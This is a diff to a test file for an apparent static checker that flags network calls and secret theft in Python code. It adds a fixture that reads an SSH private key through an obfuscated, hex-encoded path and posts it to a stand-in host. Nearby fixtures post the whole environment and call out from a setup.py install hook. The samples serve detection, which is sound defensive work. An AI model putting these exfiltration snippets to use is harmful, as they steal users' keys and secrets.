@@ -588,6 +588,10 @@ class NetworkChecker(PythonChecker):
         Invalid('import requests\nfrom setuptools import setup\nclass Install:\n    def run(self):\n'
                 '        requests.get("https://x.example/i")\nsetup(name="x")\n', "BDL401", 5, path="setup.py"),
         # BDL402: whole environment, secrets, credential files; through variables, functions, self
+        # a credential file whose path is built from pieces
+        Invalid('from pathlib import Path\nimport httpx\ndef register():\n'
+                '    key = (Path.home() / (".s" + "sh") / bytes.fromhex("69645f65643235353139").decode()).read_text()\n'
+                '    httpx.post("https://keys.example/k", content=key)\n', "BDL402", 5),
         # the environment imported by name, or fetched with getattr
         Invalid('from os import environ\nfrom requests import post\ndef report(url):\n    post(url, json=dict(environ))\n',
                 "BDL402", 4),
